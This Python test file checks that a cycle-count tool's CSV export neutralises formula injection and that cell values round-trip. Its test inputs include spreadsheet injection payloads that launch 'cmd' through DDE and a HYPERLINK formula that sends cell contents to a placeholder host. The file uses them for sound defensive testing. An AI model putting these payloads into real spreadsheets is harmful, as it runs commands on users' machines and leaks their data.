"""Tables in and out: the delimiter is told by the rows, and nothing that is written is worked out."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyclecount_tui.domain.visible_text import visible
from cyclecount_tui.workflow.errors import Refusal
from cyclecount_tui.workflow.spreadsheet import delimiter_of, harmless, numbered_rows, original, unwrapped, written

CELLS = st.text() | st.text(st.sampled_from("=+-@'\"; \t\r\n|1.a＝"), max_size=10)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  @x", "'=1", "''=1", "' =1", "＝1", "＋1",
        "－1", "＠x", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example?y="&A1,"z")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "-", "--2",
    ],
)  # fmt: skip
def test_what_starts_a_formula_is_kept_from_it_and_comes_back(cell: str) -> None:
    shown = harmless(cell)
    assert not shown.lstrip().startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert original(shown) == visible(cell).strip()


@pytest.mark.parametrize("cell", ["a;=1+1", 'a; "=1+1', "a;  +x", ";@x"])
def test_a_cell_inside_of_a_cell_is_kept_from_it_too(cell: str) -> None:
    pieces = harmless(cell).split(";")
    assert not any(piece.lstrip(' "').startswith(tuple("=+-@")) for piece in pieces)
    assert original(harmless(cell)) == cell


@pytest.mark.parametrize("cell", ["-2", "-0.5", "7", "a-b", "a=b", "a + b", "it's", "'quoted'", "x; y", ""])
def test_the_rest_is_written_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell
    assert original(cell) == cell


@given(CELLS)
def test_any_cell_comes_back_as_it_is_shown(cell: str) -> None:
    assert original(harmless(cell)) == visible(cell).strip()


@given(st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=5))
def test_any_table_comes_back(rows: list[tuple[str, str, str]]) -> None:
    found = numbered_rows(written(("a", "b", "c"), rows))
    shown = [tuple(visible(cell).strip() for cell in row) for row in rows]
    assert [tuple(map(original, cells)) for _, cells in found[1:]] == [row for row in shown if any(row)]


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        ("a,b,c\n1;2,3,4\n", ["1;2", "3", "4"]),
        ("a;b;c\n1,2;3,4;5,6\n", ["1,2", "3,4", "5,6"]),
        ("a\tb\n1,2,3\t4;5;6\n", ["1,2,3", "4;5;6"]),
        ("a|b\n1, 2|3\n", ["1, 2", "3"]),
        ('a;b\n"x;y, z";2\n', ["x;y, z", "2"]),
        ("a;b\nRACK-A, SHELF-01;2\n", ["RACK-A, SHELF-01", "2"]),
        ("title\na;b\n1,5;2\n", ["1,5", "2"]),
        ("sep=|\na|b\n1,2|3,4\n", ["1,2", "3,4"]),
        ('"sep=;"\r\na;b\r\n1;2\r\n', ["1", "2"]),
        ("\ufeffa,b\n1,2\n", ["1", "2"]),
    ],
)
def test_the_delimiter_is_the_one_that_fits_the_rows(text: str, cells: list[str]) -> None:
    assert numbered_rows(text)[-1][1] == cells


@pytest.mark.parametrize(("text", "delimiter"), [("a;b\n1,5;2\n", ";"), ("sep=\t\na\tb\n", "\t"), ("a\n1\n", ",")])
def test_what_parts_the_cells_is_told(text: str, delimiter: str) -> None:
    assert delimiter_of(text) == delimiter


@pytest.mark.parametrize(
    ("cell", "held"), [('="0012"', "0012"), ("a \r\n b", "a b"), ("'=1", "=1"), ('="a"&"b"', '="a"&"b"'), ('="', '="')]
)
def test_a_cell_is_read_without_its_wrapping(cell: str, held: str) -> None:
    assert unwrapped(cell) == held


def test_rows_are_numbered_as_a_spreadsheet_shows_them() -> None:
    assert [number for number, _ in numbered_rows('a,b\n\n"x\ny",1\n,\n2,3\n')] == [1, 3, 5]


@pytest.mark.parametrize("text", ['a,b\n1,"2\n', 'a,b\n1,"2"x\n'])
def test_broken_quotes_are_refused_with_the_place(text: str) -> None:
    with pytest.raises(Refusal, match=r"The file is no CSV table .* after row 1"):
        numbered_rows(text)
